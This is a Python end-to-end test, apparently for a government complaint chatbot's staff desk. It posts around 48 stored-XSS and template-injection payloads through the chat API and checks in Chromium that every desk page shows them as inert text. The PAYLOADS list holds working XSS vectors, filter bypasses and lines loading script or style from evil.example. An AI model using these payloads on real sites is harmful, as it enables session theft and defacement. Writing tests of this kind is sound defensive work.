"""Stored-XSS drill: markup a citizen types stays text at the desk, checked in a real Chromium.

A corpus of payloads is sent through the web chat's real HTTP API — as messages to a person, as the
words of a complaint and of a tip, and as a tip reporter's name (the bot refuses that one and asks
again) — and the desk pages that show them are opened in Chromium (server-rendered and, for the queue
and transcript, rendered again by the page's script from the event stream). On every page: no dialog
opened, no payload code ran, no element, event-handler attribute or javascript: link came from the
payloads, the Content-Security-Policy had nothing to block, and each payload reads literally.
"""

from __future__ import annotations

import itertools
import shutil
from collections.abc import AsyncIterator
from typing import Any

import aiohttp
import pytest

from bots import demo
from tests.desk.e2e import conftest as e2e
from tests.desk.e2e.conftest import CHROMIUM, Live, staff_login

# The e2e tests' live service and browser, used here as they are.
globals().update({name: getattr(e2e, name) for name in ("live", "browser")})
pytestmark = pytest.mark.skipif(
    not (CHROMIUM.exists() and shutil.which(str(CHROMIUM))),
    reason=f"{CHROMIUM} is missing: install Debian's chromium package (apt)",
)

PAYLOADS = [
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    '<img src="x" onerror="window.__xss=4">',
    "<svg onload=alert(5)>",
    "<svg><script>window.__xss=6</script></svg>",
    "<body onload=alert(7)>",
    "<iframe src=javascript:alert(8)></iframe>",
    '<iframe srcdoc="<script>parent.__xss=9</script>">',
    "<a href=javascript:alert(10)>点我</a>",
    '<a href="jav&#x09;ascript:alert(11)">点我</a>',
    '"><script>window.__xss=12</script>',
    "'><img src=x onerror=alert(13)>",
    '" onmouseover="window.__xss=14" x="',
    "' autofocus onfocus='window.__xss=15",
    "</textarea><script>window.__xss=16</script>",
    "</p><img src=x onerror=alert(17)>",
    "</title><script>alert(18)</script>",
    '<div style="background:url(javascript:alert(19))">',
    '<div style="width: expression(alert(20))">',
    "<style>*{background:url(//evil.example/steal)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(23)">',
    "<base href=//evil.example/>",
    "<object data=javascript:alert(25)>",
    "<embed src=javascript:alert(26)>",
    "<math><mtext><img src=x onerror=alert(27)></mtext></math>",
    "<details open ontoggle=alert(28)>",
    "<input autofocus onfocus=alert(29)>",
    "<video><source onerror=alert(30)></video>",
    "<form action=javascript:alert(31)><button>提交</button></form>",
    "{{7*7}}",
    "${7*7}",
    "{% raw %}{{ config }}{% endraw %}",
    "#{7*7} <%= 7*7 %> [[7*7]]",
    "{{constructor.constructor('window.__xss=37')()}}",
    "&lt;script&gt;window.__xss=38&lt;/script&gt;",
    "&#60;img src=x onerror=alert(39)&#62;",
    "\uff1cscript\uff1ewindow.__xss=40\uff1c/script\uff1e",
    "<scr<script>ipt>window.__xss=41</scr</script>ipt>",
    "\u202e<script>alert(42)</script>",
    "[点我](javascript:alert(43))",
    "![x](x\" onerror=\"alert(44))",
    "<javascript:alert(45)>",
    "<!--<img src=x onerror=alert(46)>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(47)>\">",
    "data:text/html,<script>alert(48)</script>",
]
NAME = '<img src=x onerror="window.__xss=99">'  # refused as a name by the bot: it asks again
TIP_TEXT = "举报：<svg onload=alert(98)>村会计挪用低保资金"

# Run in the page: everything a payload could have planted, listed (empty is good).
PLANTED = """() => {
  const main = document.querySelector("main");
  const found = [];
  for (const node of main.querySelectorAll("*")) {
    for (const attribute of node.attributes) {
      if (attribute.name.startsWith("on")) found.push(node.tagName + "[" + attribute.name + "]");
      if (/^\\s*javascript:/i.test(attribute.value)) found.push(node.tagName + "=" + attribute.value);
      if (attribute.name === "style") found.push(node.tagName + "[style]");
    }
  }
  const odd = "script, iframe, img, svg, math, object, embed, style, link, meta, base, video, source";
  for (const node of main.querySelectorAll(odd)) found.push(node.tagName);
  if (document.querySelectorAll("script").length !== 1) found.push("extra script");
  return found;
}"""
WATCH = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", (event) => window.__csp.push(event.violatedDirective));
"""


async def _say(http: aiohttp.ClientSession, base: str, session: str, texts: list[str]) -> None:
    """What a browser's web chat sends, in order, through the channel's HTTP API."""
    for text in texts:
        response = await http.post(
            f"{base}/chat/{demo.DEMO_BOT_ID}/api/messages",
            json={"session": session, "text": text, "client_message_id": f"m{next(_IDS)}"},
        )
        assert response.status == 200, await response.text()


_IDS = itertools.count()


@pytest.fixture
async def http() -> AsyncIterator[aiohttp.ClientSession]:
    async with aiohttp.ClientSession() as session:
        yield session


async def _check(page: Any, dialogs: list[str], where: str) -> None:
    assert dialogs == [], where
    assert await page.evaluate("window.__xss === undefined && window.parent.__xss === undefined"), where
    assert await page.evaluate("window.__csp") == [], where
    assert await page.evaluate(PLANTED) == [], where


async def _shows_literally(page: Any, selector: str, texts: list[str], where: str) -> None:
    shown = "\n".join(await page.locator(selector).all_text_contents())
    missing = [text for text in texts if text not in shown]
    assert missing == [], where


async def test_citizen_markup_stays_inert_text_on_every_desk_page(
    live: Live, browser: Any, http: aiohttp.ClientSession
) -> None:
    assert len(PAYLOADS) >= 40
    handoff_session, complaint_session, tip_session = ("a" * 32, "b" * 32, "c" * 32)
    await _say(http, live.base, handoff_session, ["人工", *PAYLOADS])
    await _say(http, live.base, complaint_session, ["我要投诉", *PAYLOADS, "完成", "民政局", "确认提交"])
    tip = ["举报", TIP_TEXT, "完成", "城关", "实名", NAME, "赵铁柱", "13912345678", "对"]
    await _say(http, live.base, tip_session, tip)

    context = await browser.new_context(locale="zh-CN", viewport={"width": 1280, "height": 800})
    context.set_default_timeout(e2e.TIMEOUT_MS)
    staff = await context.new_page()
    dialogs: list[str] = []

    async def record(dialog: Any) -> None:
        dialogs.append(dialog.message)
        await dialog.dismiss()

    staff.on("dialog", record)
    await staff.add_init_script(WATCH)
    await staff_login(staff, live.base, demo.DEMO_STAFF_USERNAME, live.staff_password)

    # The queue, rendered by the script from the event stream (and, before that, by the server).
    await staff.locator("#live-state[data-state=open]").wait_for()
    await staff.locator("#queue-rows tr").filter(has_text=PAYLOADS[-1]).wait_for()
    await _check(staff, dialogs, "queue")
    await _shows_literally(staff, "#queue-rows td.text", [PAYLOADS[-1]], "queue")

    # The conversation: every payload in the transcript and in the draft of a case.
    await staff.locator("#queue-rows tr").filter(has_text=PAYLOADS[-1]).click()
    await staff.locator("#live-state[data-state=open]").wait_for()
    await staff.locator("#transcript .line.citizen").filter(has_text=PAYLOADS[-1]).wait_for()
    await _check(staff, dialogs, "conversation")
    await _shows_literally(staff, "#transcript .line.citizen .text", PAYLOADS, "transcript")
    draft = await staff.locator("#case-description").input_value()
    assert [text for text in PAYLOADS if text not in draft] == []

    # The complaint: the case list (searched) and the case page.
    await staff.goto(live.base + "/desk/cases?kind=complaint")
    await _check(staff, dialogs, "case list")
    await staff.locator("table.list tbody tr").first.click()
    await staff.locator(".description").wait_for()
    await _check(staff, dialogs, "complaint")
    await _shows_literally(staff, ".description", PAYLOADS, "complaint")
    assert "49" not in await staff.locator(".description").text_content()

    # The tip, and its reporter's name on the one page that shows it (a supervisor's reveal).
    await staff.goto(live.base + "/desk/cases?kind=tip")
    await staff.locator("table.list tbody tr").first.click()
    await staff.locator(".description").wait_for()
    await _check(staff, dialogs, "tip")
    await _shows_literally(staff, ".description", [TIP_TEXT], "tip")
    await staff.click("details summary:has-text('查看举报人身份')")
    await staff.fill("#reveal-reason", "核实举报线索")
    await staff.click("form[action$='/reveal'] button")
    await staff.locator(".revealed").wait_for()
    await _check(staff, dialogs, "revealed reporter")
    await _shows_literally(staff, ".revealed dd", ["赵铁柱"], "revealed reporter")
    assert NAME not in await staff.locator("main").text_content()
